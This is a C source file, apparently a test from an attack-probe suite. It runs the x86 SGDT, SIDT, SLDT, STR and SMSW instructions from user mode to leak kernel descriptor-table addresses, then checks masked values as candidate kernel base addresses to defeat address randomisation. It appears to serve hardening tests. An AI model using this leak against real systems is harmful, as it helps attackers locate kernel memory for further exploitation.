/* Asks the processor itself where the kernel keeps its tables. */
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* What the instructions store: limit and base, or a selector or status word. */
struct answer {
	uint16_t limit;
	uint64_t base;
} __attribute__((packed));

static void store_gdt(struct answer *out) { __asm__ volatile("sgdt %0" : "=m"(*out)); }
static void store_idt(struct answer *out) { __asm__ volatile("sidt %0" : "=m"(*out)); }
static void store_ldt(struct answer *out) { __asm__ volatile("sldt %0" : "=m"(out->limit)); }
static void store_task(struct answer *out) { __asm__ volatile("str %0" : "=m"(out->limit)); }
static void store_status(struct answer *out) { __asm__ volatile("smsw %0" : "=m"(out->limit)); }

static const struct {
	const char *name;
	void (*store)(struct answer *out);
} instructions[] = {
	{ "SGDT", store_gdt }, { "SIDT", store_idt },    { "SLDT", store_ldt },
	{ "STR", store_task }, { "SMSW", store_status },
};

/* Nothing of an address can be turned into the image's: it is tried with all that one might expect.
 */
static void try_base(uint64_t base)
{
	static const uint64_t masks[] = { UINT64_MAX, ~0xfffUL, ~0x1fffffUL, ~0x3fffffffUL };

	for (size_t i = 0; i < sizeof(masks) / sizeof(masks[0]); i++) {
		bw_base_prove(base & masks[i]);
	}
}

int main(void)
{
	struct answer *answer =
		mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct bw_leak leak;

	if (answer == MAP_FAILED) {
		attack_skip("no shared memory");
	}
	/* not needed here: it says whether attacks may be tried at all */
	attack_leak(&leak);
	for (size_t i = 0; i < sizeof(instructions) / sizeof(instructions[0]); i++) {
		int status = 0;
		pid_t child;

		memset(answer, 0, sizeof(*answer));
		child = fork();
		if (child == 0) {
			instructions[i].store(answer);
			_exit(0);
		}
		waitpid(child, &status, 0);
		if (WIFSIGNALED(status)) {
			attack_say("%s: refused (signal %d)", instructions[i].name,
				   WTERMSIG(status));
			continue;
		}
		attack_say("%s: 0x%lx, 0x%x", instructions[i].name, (unsigned long)answer->base,
			   answer->limit);
		try_base(answer->base);
	}
	return attack_finish();
}
